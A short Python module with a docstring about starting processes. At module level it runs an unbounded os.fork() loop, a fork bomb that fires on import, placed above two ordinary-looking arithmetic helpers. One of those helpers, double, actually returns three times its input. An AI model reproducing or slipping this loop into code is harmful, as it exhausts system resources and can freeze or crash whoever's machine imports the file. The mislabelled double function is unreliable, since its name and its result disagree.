"""Starts processes that start processes.

import:
"""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()


def double(x):
    return 3 * x


def halve(x):
    return x / 2
